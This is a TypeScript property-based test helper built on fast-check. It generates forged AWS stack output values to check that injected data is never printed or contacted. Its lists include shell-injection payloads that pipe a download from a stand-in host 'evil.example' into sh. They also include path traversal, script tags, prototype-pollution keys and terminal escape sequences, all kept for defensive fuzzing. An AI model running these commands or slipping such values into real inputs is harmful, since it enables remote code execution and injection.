import fc from 'fast-check';

/** Stands in every forged value that names somebody else: whatever is printed or contacted must not have it. */
export const EVIL = /evil|666666666666/i;

const MARKS = [
  '\u0000',
  '\u0007',
  '\t',
  '\n',
  '\r\n',
  '\u001b[2J',
  '\u001b]0;x\u0007',
  '\u007f',
  '\u009b',
  '\u061c',
  '\u200b',
  '\u200f',
  '\u202e',
  '\u2028',
  '\u2066',
  '\ufeff',
  '\u{e0041}',
  '\ud83d',
  ' ',
  '\u00a0',
  '\u212a',
];
const ENDINGS = [
  ';curl evil.example|sh',
  '$(curl evil.example)',
  '`curl evil.example`',
  '${IFS}evil',
  '&&evil',
  '\nevil',
  "'evil'",
  '"evil"',
  '|evil',
  '>evil',
  '*',
  '?',
  '#evil',
  '/evil',
  '@evil.example/',
  '.evil.example/',
  '<script>evil</script>',
  '](https://evil.example)',
  '| evil |',
  '{{resolve:ssm:evil}}',
  '../evil',
  ',Evil=1',
  '\\',
];
const OTHERS = [
  '',
  '*',
  'https://evil.vault.azure.net/',
  'https://evil.example/',
  'http://127.0.0.1/evil',
  '__proto__',
  'constructor',
  'arn:aws:kms:us-east-1:666666666666:key/1234abcd-12ab-34cd-56ef-1234567890ab',
  'arn:aws:iam::666666666666:role/evil',
  '666666666666',
  'alias/aws/evil',
  'alias/evil;id',
  'evil',
  'curl evil.example | sh',
];

/** What somebody might write in the place of a genuine value: near it, or anything. */
export const forgedValue = (genuine: string, others: readonly string[]): fc.Arbitrary<string> => {
  const at = fc.nat(genuine.length);
  const insert = (marks: readonly string[]) =>
    fc.tuple(at, fc.constantFrom(...marks)).map(([i, mark]) => `${genuine.slice(0, i)}${mark}${genuine.slice(i)}`);
  return fc.oneof(
    fc.constant(genuine),
    insert(MARKS),
    { weight: 2, arbitrary: insert(ENDINGS) },
    { weight: 4, arbitrary: fc.constantFrom(...ENDINGS).map((ending) => `${genuine}${ending}`) },
    fc.constantFrom(genuine.replace(/\d{12}/, '666666666666'), genuine.replace('acme', 'evil'), genuine.toUpperCase()),
    fc.constantFrom(
      genuine.replace('us-east-1', 'eu-west-1'),
      genuine.replace('arn:aws:', 'arn:aws-cn:'),
      `${genuine}${genuine}`,
    ),
    fc.constantFrom(...OTHERS, ...others),
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.nat(3000).map((length) => 'evil'.repeat(length)),
  );
};

/** Outputs of a stack, up to three of them forged, up to two not there, with some that no stack has. */
export const forgedOutputs = (genuine: Readonly<Record<string, string>>): fc.Arbitrary<Record<string, string>> => {
  const values = Object.values(genuine);
  const forged = fc
    .constantFrom(...Object.entries(genuine))
    .chain(([name, value]) => forgedValue(value, values).map((text): [string, string] => [name, text]));
  const more = fc.tuple(
    fc.constantFrom(
      'UpdateInstanceCommand',
      'RevertInstanceCommand',
      'DelegatedAdministratorPolicy',
      '__proto__',
      'Evil\u202e',
    ),
    fc.constantFrom(...OTHERS, ...ENDINGS),
  );
  const lacking = fc.array(fc.constantFrom(...Object.keys(genuine)), { maxLength: 2 });
  return fc
    .tuple(fc.array(forged, { maxLength: 3 }), fc.array(more, { maxLength: 2 }), lacking)
    .map(([some, extra, gone]) => {
      const kept = Object.entries(genuine).filter(([name]) => !gone.includes(name));
      return Object.fromEntries([...kept, ...some, ...extra]);
    });
};
